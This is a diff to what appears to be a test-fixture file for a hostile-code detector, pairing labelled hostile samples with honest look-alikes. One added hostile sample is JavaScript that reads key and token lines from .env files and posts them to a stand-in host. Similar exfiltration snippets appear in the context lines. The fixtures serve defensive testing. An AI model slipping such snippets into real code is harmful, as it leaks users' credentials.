@@ -97,6 +97,13 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "requests.post('https://a.invalid', json={name: dict(parser[name]) for name in parser.sections()})\n",
             line=5,
         ),
+        "what is called a key in the project's settings": js(
+            "const { existsSync, readFileSync } = require('fs'), { resolve } = require('path');\n"
+            "const lines = ['.env', '.env.local'].map((name) => resolve(process.cwd(), name)).filter(existsSync)\n"
+            "  .flatMap((file) => readFileSync(file, 'utf8').split('\\n')).filter((line) => /key|token/i.test(line));\n"
+            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ lines }) });\n",
+            line=4,
+        ),
         "a queue, by a client that is awaited twice": js(
             "const queues = require('amqplib');\nasync function start() {\n"
             "  const one = await (await queues.connect('amqp://a.invalid')).createChannel();\n"
@@ -170,6 +177,12 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "a parser of settings that has read the project's": {
             "app.py": "import configparser, requests\nparser = configparser.ConfigParser()\nparser.read('setup.cfg')\n"
             "requests.post('https://a.invalid', json={name: dict(parser[name]) for name in parser.sections()})\n"
+        },
+        "what is no comment in the project's settings, and one of it": {
+            "app.js": "const fs = require('fs');\n"
+            "const lines = fs.readFileSync('.env', 'utf8').split('\\n').filter((line) => !line.startsWith('#'));\n"
+            "const port = lines.find((line) => line.startsWith('PORT='));\n"
+            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ port, n: lines.length }) });\n"
         },
         "a setting in a line that is logged to another machine": {
             "app.py": "import logging, logging.handlers, os\nlog = logging.getLogger('a')\n"
